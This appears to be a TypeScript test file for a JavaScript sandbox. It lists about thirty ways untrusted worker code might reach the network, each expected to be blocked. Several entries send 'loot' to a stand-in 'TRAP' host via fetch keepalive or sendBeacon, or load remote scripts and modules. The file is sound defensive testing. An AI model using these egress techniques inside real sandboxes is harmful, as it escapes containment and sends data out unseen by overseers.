// Out through the network: nothing may arrive at either server.
import { call, honest, module, reach, type Attack } from '../attack.ts'

export const network: readonly Attack[] = [
  reach('fetch of the page’s own site', `return (await api.fetch('SITE')).status`),
  reach('fetch of another server', `return (await api.fetch('http://TRAP/fetch')).status`),
  reach(
    'fetch without CORS',
    `return (await api.fetch('http://TRAP/no-cors', { mode: 'no-cors' })).type`,
  ),
  reach(
    'fetch that outlives the worker',
    `return (await api.fetch('http://TRAP/keepalive', { method: 'POST', body: 'loot', keepalive: true, mode: 'no-cors' })).type`,
  ),
  reach(
    'XMLHttpRequest, synchronous',
    `const request = new api.XMLHttpRequest(); request.open('GET', 'SITE', false); request.send(); return request.status`,
  ),
  reach(
    'XMLHttpRequest, asynchronous',
    `const request = new api.XMLHttpRequest(); request.open('GET', 'http://TRAP/xhr'); request.send(); return soon(request)`,
  ),
  reach('WebSocket', `return soon(new api.WebSocket('ws://TRAP/socket'))`),
  reach(
    'WebSocketStream',
    `return within(new (there(api.WebSocketStream, 'WebSocketStream'))('ws://TRAP/stream').opened)`,
  ),
  reach(
    'WebTransport',
    `return within(new (there(api.WebTransport, 'WebTransport'))('https://TRAP/transport').ready)`,
  ),
  reach('EventSource', `return soon(new api.EventSource('http://TRAP/events'))`),
  reach(
    'a beacon',
    `return there(api.navigator?.sendBeacon, 'sendBeacon').call(api.navigator, 'http://TRAP/beacon', 'loot')`,
  ),
  reach(
    'a peer connection',
    `return new (there(api.RTCPeerConnection, 'RTCPeerConnection'))({ iceServers: [{ urls: 'stun:TRAP' }] }).createOffer()`,
  ),
  reach('importScripts', `api.importScripts('http://TRAP/script.js'); return 'a script'`),
  reach(
    'importScripts of a data URL',
    `api.importScripts('data:text/javascript,1'); return 'a script'`,
  ),
  reach('import() of another server', `return import('http://TRAP/module.js')`),
  reach('import() of the page’s own site', `return import('SITE')`),
  reach('import() of a data URL', `return import('data:text/javascript,export default 1')`),
  reach('import() of JSON', `return import('http://TRAP/data.json', { with: { type: 'json' } })`),
  reach(
    'import() of a style sheet',
    `return import('http://TRAP/a.css', { with: { type: 'css' } })`,
  ),
  reach('a font', `return new api.FontFace('loot', 'url(http://TRAP/font.woff2)').load()`),
  reach(
    'a fetch in the background',
    `return there(api.registration?.backgroundFetch, 'backgroundFetch').fetch('loot', ['http://TRAP/background'])`,
  ),
  reach(
    'the cache as a downloader',
    `return (await there(api.caches, 'caches').open('x')).add('http://TRAP/cache-add')`,
  ),
  reach(
    'a presentation of another server',
    `return new (there(api.PresentationRequest, 'PresentationRequest'))('http://TRAP/present').start()`,
  ),
  reach(
    'a compiled stream of WebAssembly',
    `return api.WebAssembly.compileStreaming(api.fetch('http://TRAP/code.wasm'))`,
  ),
  module(
    'a static import of another server',
    ['load'],
    `import 'http://TRAP/static.js'\n${honest}`,
  ),
  module(
    'a static import of the page’s own site',
    ['load'],
    `import * as all from 'SITE'\n${honest}`,
  ),
  module(
    'a static import of JSON',
    ['load', 'syntax'],
    `import all from 'http://TRAP/static.json' with { type: 'json' }\n${honest}`,
  ),
  module('a re-export of another server', ['load'], `export { f } from 'http://TRAP/reexport.js'`),
  call('a source map elsewhere', ['wrong'], 'return x', {
    top: '//# sourceMappingURL=http://TRAP/map.json\n//# sourceURL=http://TRAP/source.js',
    othersPass: true,
  }),
  call(
    'a thousand imports at once',
    ['wrong', 'timeout'],
    `return Promise.allSettled(Array.from({ length: 1000 }, (_, i) => import('http://TRAP/flood-' + i + '.js')))
      .then((all) => all.filter(({ status }) => status === 'fulfilled').length)`,
    { report: /^0$|^undefined$/ },
  ),
]
